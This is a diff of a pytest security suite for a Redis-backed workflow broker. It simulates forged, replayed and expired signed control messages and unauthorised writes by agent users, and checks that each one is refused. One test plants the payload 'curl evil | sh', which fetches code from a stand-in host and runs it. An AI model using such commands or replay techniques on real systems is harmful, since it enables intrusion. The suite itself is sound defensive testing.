@@ -2,11 +2,11 @@
 
 A real redis-server loads the users `acl generate` writes; two coordinators run with the identities
 file and `--require-signed`; the workers of webc, kalic and cmdc run as their own users and sign with
-their own secrets. Each attack must be refused or change nothing: every run it aimed at ends as it
-would have (state, payloads, results, events), each task run once by its own agent's worker, and
-nothing lost. The attack that still works — an agent's user may write a running run's spec, because
-the key layout does not yet separate what agents write from what only coordinators write — stays here
-as a strict xfail that names the gap, so this suite turns red the day it is closed.
+their own secrets (starter, whose reactions submit runs, is a client too). Each attack must be refused
+or change nothing: every run it aimed at ends as it would have (state, payloads, results, events),
+each task run once by its own agent's worker, and nothing lost. That includes what an agent's user
+writes of a running run: its meta hash (spec, params, version) is the coordinators' and clients' alone,
+and a reaction's run is written by the coordinators from a signed `submit`.
 
 The module prints the attack table (attack, user, before, now) at its end.
 """
@@ -28,13 +28,16 @@ from redis.exceptions import NoPermissionError, NoScriptError, ResponseError
 
 from phibroker import wire
 from phibroker import workflow as workflows
-from phibroker.errors import ApprovalError
+from phibroker.engine import records
+from phibroker.errors import ApprovalError, DecodeError, InvalidInput
 from phibroker.keys import Keys
 from phibroker.runtime.client import Client
 from phibroker.runtime.submission import submission
 from phibroker.security import signing
 from phibroker.settings import Settings
-from phibroker.store.connection import Connection
+from phibroker.store import scripts
+from phibroker.store.connection import SHAS
+from phibroker.store.worker import WorkerStore
 from tests.conftest import Processes, until
 from tests.test_core import events_of
 from tests.test_deploy import (
@@ -49,7 +52,8 @@ from tests.test_deploy import (
 )
 from tests.test_fencing import forged_attempt
 
-AGENTS = ["webc", "kalic", "cmdc", "dormant"]  # dormant: no worker until a test starts one
+AGENTS = ["webc", "kalic", "cmdc", "dormant", "starter"]  # dormant, starter: no worker until a test starts one
+SUBMITTERS = ["starter"]  # its reactions submit runs: its identity is a client's too
 TEAM = """
 name: team
 tasks:
@@ -66,6 +70,7 @@ tasks:
   Approve: {approval: {message: "Ship it?", approvers: [stryk]}, depends_on: [Build]}
   Ship: {agent: cmdc, command: step, payload: {run: make release}, depends_on: [Approve]}
 """
+LAUNCHED = "name: launched\ntasks:\n  Work: {agent: webc, command: step, payload: {target: reaction}}\n"
 ISSUED = {"Scan": ("kalic", {"target": "repo"}), "Build": ("webc", {"target": "repo"})}
 ISSUED["Ship"] = ("cmdc", {"run": "make release"})
 
@@ -112,9 +117,9 @@ class Fleet:
     def client(self, user: str) -> Client:
         return Client(self.settings(user))
 
-    def store(self, user: str, signed: bool = False) -> Connection:
+    def store(self, user: str, signed: bool = False) -> WorkerStore:
         """USER's own connection; `signed`: it signs with its agent's secret, as its worker does."""
-        store = Connection(self.settings(user))
+        store = WorkerStore(self.settings(user))
         if signed:
             store.sign_as(user, self.deployment.env(user)["PHIBROKER_AGENT_SECRET"].encode())
         return store
@@ -144,14 +149,14 @@ class Fleet:
 @pytest.fixture(scope="module")
 def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
     directory = tmp_path_factory.mktemp("attacks")
-    with deployed(directory, AGENTS) as deployment:
+    with deployed(directory, AGENTS, SUBMITTERS) as deployment:
         deployment.root.config_set("busy-reply-threshold", 1000)  # a runaway script answers BUSY after 1 s
         procs = deployment.processes(directory)
         ledger = directory / "ledger.jsonl"
         ops = signing.generate(directory / "signer", "ops")
         stryk = signing.generate(directory / "approver", "stryk")
         files = {}
-        for name, text in (("team", TEAM), ("slow", SLOW), ("idle", DORMANT), ("gated", GATED)):
+        for name, text in (("team", TEAM), ("slow", SLOW), ("idle", DORMANT), ("gated", GATED), ("launched", LAUNCHED)):
             files[name] = directory / "files" / f"{name}.yaml"
             files[name].parent.mkdir(exist_ok=True)
             files[name].write_text(text)
@@ -252,38 +257,62 @@ def test_forged_control_messages_do_not_cancel_or_steer_another_teams_run(fleet:
 
 
 def test_a_copy_of_a_signed_file_written_by_an_agent_does_not_run(fleet: Fleet) -> None:
-    """webc writes runs itself (its user may: a reaction's submit) from the signed file and its signature."""
-    seen = len(fleet.dead_letters())
+    """webc writes a run itself from the signed file and its signature (NOPERM: agents write no runs),
+    then asks the coordinators to, as a reaction does: unsigned, signed by webc (not a client), and by
+    starter (a client too) with a client's signature copied or as a run already launched."""
+    keys, seen = fleet.deployment.keys, len(fleet.dead_letters())
     genuine = fleet.submit()
-    meta = fleet.deployment.root.hmget(fleet.deployment.keys.wf(genuine), "submitter", "submit_sig")
+    meta = fleet.deployment.root.hmget(keys.wf(genuine), "submitter", "submit_sig")
     workflow = workflows.load(fleet.files["team"])
-    attempts = {}
-    for how in ("signed by webc", "unsigned", "a client's signature copied"):
+    written, _ = submission(workflow, workflow.params_with({}))
+    webc = fleet.deployment.client("webc")
+    for call in (
+        lambda: webc.hsetnx(keys.wf(written), "spec", workflow.spec_json),
+        lambda: webc.evalsha(SHAS[scripts.CREATE], 1, keys.wf(written), "state", "running", "launched", "1"),
+        lambda: webc.zadd(keys.running, {written: 1}),
+    ):
+        with pytest.raises(NoPermissionError):
+            call()
+    assert not fleet.deployment.root.exists(keys.wf(written))
+    asked = []
+    for sender, signed, changes in (
+        ("webc", False, {}),
+        ("webc", True, {}),
+        ("starter", True, {"submitter": meta[0].decode(), "submit_sig": meta[1].decode()}),
+        ("starter", True, {"launched": 1}),
+    ):
         wf_id, fields = submission(workflow, workflow.params_with({}))
-        if how == "a client's signature copied":
-            fields.update(submitter=meta[0].decode(), submit_sig=meta[1].decode())
-        fleet.store("webc", signed=how == "signed by webc").submit_workflow(wf_id, fields)
-        attempts[how] = wf_id
-    with fleet.client("client") as waiter:
-        errors = {how: waiter.wait(wf_id, timeout=60) for how, wf_id in attempts.items()}
-    assert {how: (s["state"], s["error"]) for how, s in errors.items()} == {
-        "signed by webc": ("failed", "refused: submitted by 'webc', which is not a client"),
-        "unsigned": ("failed", "refused: not submitted by a client identity (set PHIBROKER_CLIENT_SECRET)"),
-        "a client's signature copied": (
-            "failed",
-            "refused: bad submit signature for 'client' (the run was changed after it was submitted)",
-        ),
-    }
-    assert all(not fleet.ran(wf_id) for wf_id in attempts.values())
-    assert not [task for s in errors.values() for task in s["tasks"].values() if task["history"]]  # none started
-    kicks = reasons_since(fleet, seen, 3)  # each kick webc sent; the sweep's kick then refused the run
-    assert sorted(kicks) == [
+        store = fleet.store(sender, signed=signed)
+        body = {"wf": wf_id, "fields": {**store.signed_fields(wf_id, fields), **changes}}
+        store.send_to_coordinators(wire.Inbox(kind="submit", body=body))
+        asked.append(wf_id)
+    assert sorted(reasons_since(fleet, seen, 4)) == [  # two coordinators: in no set order
         "forged submit: 'webc' is agent; only client or coordinator may send it",
-        "forged submit: not signed (only client or coordinator identities may send it)",
+        "forged submit: a run signed for 'client' sent by 'starter'",
+        "forged submit: not a new run (its state, version or launched is not a new run's)",
         "forged submit: not signed (only client or coordinator identities may send it)",
     ]
+    with fleet.client("watch") as watch:
+        assert not any(watch.broker.read_workflow(wf_id)[0] for wf_id in asked)  # none was written
     untouched(fleet, genuine)
-    record("a copy of a signed file submitted by an agent", "webc", "worked: it ran", "refused at start: not a client")
+    record("a copy of a signed file submitted by an agent", "webc", "worked: it ran", "refused: NOPERM, or by the gate")
+
+
+def test_a_reaction_of_a_submitter_agent_starts_a_signed_file_under_the_acls(fleet: Fleet) -> None:
+    """starter's reaction asks for a run of a signed file; the coordinators write it, and it runs past
+    `--require-signed` with its tasks' own agents."""
+    keys = fleet.deployment.keys
+    root, stream = fleet.deployment.root, keys.sub("starter.launch")
+    fleet.deployment.worker(fleet.procs, "starter", "tests.apps.choreo", STARTER_FILE=str(fleet.files["launched"]))
+    until(lambda: root.exists(stream) and root.xinfo_groups(stream), fleet.procs)  # it reads from its group's start
+    event = records.event("scan.finished", None, None, {"target": "repo"})
+    root.xadd(stream, {wire.FIELD: wire.encode_events([event])})  # as the router copies an event
+    wf_id = f"launched-{event['id']}"
+    with fleet.client("watch") as watch:
+        meta = until(lambda: watch.broker.read_workflow(wf_id)[0], fleet.procs)
+    assert meta["submitter"] == "starter"
+    untouched(fleet, wf_id, {"Work": ("webc", {"target": "reaction"})})
+    record("a reaction's run, of a signed file", "starter", "written by the agent", "written by a coordinator, ran")
 
 
 def test_an_agent_cannot_load_or_run_a_runaway_script(fleet: Fleet) -> None:
@@ -474,25 +503,178 @@ def test_unsigned_and_tampered_workflow_files_are_refused(fleet: Fleet, tmp_path
     record("unsigned file", "client", "held", ends["u"]["error"])
 
 
-# -- the gap that remains --------------------------------------------------------------------------------
-
-
-@pytest.mark.xfail(
-    strict=True,
-    reason="key layout: an agent's user may HSET a running run's meta hash (its spec, its version), which "
-    "only coordinators should write; signatures are checked at start only",
-)
 def test_an_agent_cannot_rewrite_a_running_runs_spec(fleet: Fleet) -> None:
     keys = fleet.deployment.keys
     wf_id = fleet.submit()
     until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
     webc = fleet.deployment.client("webc")
-    spec = json.loads(webc.hget(keys.wf(wf_id), "spec"))
+    spec = json.loads(webc.hget(keys.wf(wf_id), "spec"))  # reading the run is allowed
     spec["tasks"]["Ship"]["payload"] = {"run": "curl evil | sh"}
-    webc.hset(keys.wf(wf_id), "spec", json.dumps(spec))
-    webc.hincrby(keys.wf(wf_id), "version", 1)
-    with fleet.client("client") as waiter:
-        waiter.wait(wf_id, timeout=60)
+    for what, call in {
+        "HSET spec": lambda: webc.hset(keys.wf(wf_id), "spec", json.dumps(spec)),
+        "HINCRBY version": lambda: webc.hincrby(keys.wf(wf_id), "version", 1),
+        "EVALSHA START on the meta hash": lambda: webc.evalsha(SHAS[scripts.START], 2, keys.wf(wf_id), "x", "w"),
+    }.items():
+        with pytest.raises(NoPermissionError):
+            call()
+            pytest.fail(f"webc may {what} a running run's meta hash")
+    untouched(fleet, wf_id)
     ran = {row["task"]: row["payload"] for row in fleet.ran(wf_id)}
-    record("HSET a running run's spec (cmdc's payload)", "webc", "worked", f"still works: Ship ran {ran.get('Ship')}")
-    assert ran.get("Ship") == {"run": "make release"}
+    assert ran["Ship"] == {"run": "make release"}
+    record("HSET a running run's spec (cmdc's payload)", "webc", "worked: Ship ran it", "refused: NOPERM")
+
+
+# -- copies of signed control messages, and another client's runs ----------------------------------------
+
+HELD = """
+name: held
+tasks:
+  Gate: {signal: {name: go}}
+  Work: {agent: webc, command: step, payload: {target: held}, depends_on: [Gate]}
+"""
+EIGHT_DAYS = 8 * 24 * 3600.0  # longer than a finished run is kept (PHIBROKER_RETENTION: 7 days)
+
+
+def held(fleet: Fleet) -> str:
+    """A run the client submits of HELD, signed: it waits for the signal `go`."""
+    path = fleet.directory / "files" / "held.yaml"
+    if not path.exists():
+        path.write_text(HELD)
+        signing.sign_file(fleet.ops, path)
+    with fleet.client("client") as client:
+        wf_id = client.submit(path)
+    until(lambda: fleet.unit(wf_id, "Gate", "state") == "running", fleet.procs)
+    return wf_id
+
+
+def copies(fleet: Fleet, kind: str, wf_id: str) -> list[bytes]:
+    """The signed `kind` messages for run `wf_id` in the inbox, oldest first, as the approver user reads them."""
+    found = []
+    for _, fields in fleet.deployment.client("approver").xrange(fleet.deployment.keys.results):
+        try:
+            message = wire.Inbox.decode(fields[wire.FIELD], 1 << 26)
+        except (DecodeError, KeyError):
+            continue
+        if message.kind == kind and message.body.get("wf") == wf_id and message.agent is not None:
+            found.append(fields[wire.FIELD])
+    return found
+
+
+def add_again(fleet: Fleet, raw: bytes) -> None:
+    """An inbox entry's bytes added again by the approver user, which may read the inbox and append to it."""
+    fleet.deployment.client("approver").xadd(fleet.deployment.keys.results, {wire.FIELD: raw})
+
+
+def finish(fleet: Fleet, wf_id: str) -> dict[str, Any]:
+    """Signal the run's gate and wait for its end: its task then ran once, as its file says."""
+    with fleet.client("client") as client:
+        client.signal(wf_id, "go")
+        status = client.wait(wf_id, timeout=60)
+    assert status["state"] == "succeeded", json.dumps(status, default=str)[:3000] + fleet.procs.output()
+    assert [(row["task"], row["payload"]) for row in fleet.ran(wf_id)] == [("Work", {"target": "held"})]
+    return status
+
+
+def test_a_copy_of_a_cancel_does_not_cancel_the_run_again_once_retried(fleet: Fleet) -> None:
+    seen = len(fleet.dead_letters())
+    wf_id = held(fleet)
+    with fleet.client("client") as client:
+        client.cancel(wf_id, reason="not now")
+        assert client.wait(wf_id, timeout=30)["state"] == "cancelled"
+        assert client.retry(wf_id)["state"] == "running"
+    (cancel,) = copies(fleet, "cancel", wf_id)
+    add_again(fleet, cancel)
+    (reason,) = reasons_since(fleet, seen, 1)
+    assert reason.startswith(f"replayed cancel of run {wf_id!r} from 'client': message "), reason
+    assert "was applied already" in reason
+    finish(fleet, wf_id)
+    record("a copy of a cancel, once the run was retried", "approver", "worked: cancelled again", "refused: replayed")
+
+
+def test_a_copy_of_an_earlier_retry_does_not_re_open_the_run_again(fleet: Fleet) -> None:
+    """The run remembers its last retry only: a copy of the one before it re-opened it."""
+    seen = len(fleet.dead_letters())
+    wf_id = held(fleet)
+    with fleet.client("client") as client:
+        for _ in range(2):
+            client.cancel(wf_id, reason="not now")
+            assert client.wait(wf_id, timeout=30)["state"] == "cancelled"
+            assert client.retry(wf_id)["state"] == "running"
+        client.cancel(wf_id, reason="for good")
+        assert client.wait(wf_id, timeout=30)["state"] == "cancelled"
+    first, _ = copies(fleet, "retry", wf_id)
+    add_again(fleet, first)
+    (reason,) = reasons_since(fleet, seen, 1)
+    assert reason.startswith(f"replayed retry of run {wf_id!r} from 'client': message "), reason
+    with fleet.client("watch") as watch:
+        status = watch.status(wf_id)
+    assert status["state"] == "cancelled" and status["error"] == "for good"
+    record("a copy of an earlier retry", "approver", "worked: re-opened again", "refused: replayed")
+
+
+def test_a_copy_of_a_submit_or_of_an_expired_runs_fields_starts_nothing(fleet: Fleet) -> None:
+    """A copy of a run's kick; and a run written again, with the client user, from the fields and
+    signature of one the client submitted eight days ago (as they were while it was kept)."""
+    seen = len(fleet.dead_letters())
+    wf_id = held(fleet)
+    (kick,) = copies(fleet, "submit", wf_id)
+    add_again(fleet, kick)
+    (reason,) = reasons_since(fleet, seen, 1)
+    assert reason.startswith(f"replayed submit of run {wf_id!r} from 'client': message "), reason
+    finish(fleet, wf_id)
+
+    workflow = workflows.load(fleet.directory / "files" / "held.yaml")
+    old, fields = submission(workflow, workflow.params_with({}))
+    fields["created_at"] -= EIGHT_DAYS
+    secret = fleet.deployment.env("client")["PHIBROKER_CLIENT_SECRET"].encode()
+    fields.update(submitter="client", submit_sig=wire.submit_signature(secret, old, "client", fields))
+    fleet.store("client").submit_workflow(old, fields)  # written as copied: not signed again
+    with fleet.client("client") as waiter:
+        status = waiter.wait(old, timeout=60)  # the sweep kicks it, signed by a coordinator
+    assert status["state"] == "failed" and status["error"].startswith("refused: submitted "), status["error"]
+    assert "longer than runs are kept" in status["error"] and not fleet.ran(old)
+    assert reasons_since(fleet, seen + 1, 1) == [
+        "forged submit: not signed (only client or coordinator identities may send it)"
+    ]
+    record("a copy of a run's submit", "approver", "changed nothing (started once)", "refused: replayed")
+    record("an expired run written again from its copy", "client", "worked: it ran again", "refused at start")
+
+
+def test_an_expired_cancel_is_refused(fleet: Fleet) -> None:
+    """What the client signed eleven minutes ago, kept and added again: past its expiry."""
+    seen = len(fleet.dead_letters())
+    wf_id = held(fleet)
+    secret = fleet.deployment.env("client")["PHIBROKER_CLIENT_SECRET"].encode()
+    body = {"wf": wf_id, "reason": "kept for later", "expires": time.time() - 60}
+    add_again(fleet, wire.Inbox(kind="cancel", body=body, agent="client").encode(1 << 20, secret))
+    (reason,) = reasons_since(fleet, seen, 1)
+    assert reason.startswith(f"expired cancel of run {wf_id!r} from 'client': ") and "past its expiry" in reason
+    finish(fleet, wf_id)
+    record("a cancel signed 11 minutes ago", "approver", "worked: cancelled", "refused: expired")
+
+
+def test_a_client_cannot_cancel_or_retry_another_clients_run(fleet: Fleet) -> None:
+    """starter (an agent whose reactions submit runs: a client too) aims at the client's run with its own
+    user; the client, and then the admin, may."""
+    seen = len(fleet.dead_letters())
+    wf_id = held(fleet)
+    starter = fleet.store("starter", signed=True)
+    starter.send_to_coordinators(wire.Inbox(kind="cancel", body={"wf": wf_id, "reason": "not yours"}))
+    who = "only its submitter ('client'), a coordinator or an admin may"
+    refusal = f"refused cancel of run {wf_id!r} from 'starter': {who}"
+    assert reasons_since(fleet, seen, 1) == [refusal]
+    assert fleet.unit(wf_id, "Gate", "state") == "running"
+    with fleet.client("client") as client:
+        client.cancel(wf_id, reason="mine")
+        assert client.wait(wf_id, timeout=30)["state"] == "cancelled"
+    as_starter = fleet.settings("client").model_copy(
+        update={"client_name": "starter", "client_secret": fleet.deployment.env("starter")["PHIBROKER_AGENT_SECRET"]}
+    )
+    with Client(as_starter) as other, pytest.raises(InvalidInput) as refused:  # starter's identity, as the CLI uses it
+        other.retry(wf_id)
+    assert str(refused.value) == f"retry of {wf_id} refused: " + refusal.replace("cancel", "retry", 1)
+    with fleet.client("admin") as admin:
+        assert admin.retry(wf_id)["state"] == "running"  # an admin may retry anyone's run
+    finish(fleet, wf_id)
+    assert len(reasons_since(fleet, seen, 2)) == 2
+    record("another client's cancel or retry", "starter", "worked: cancelled, re-opened", "refused: not its run")
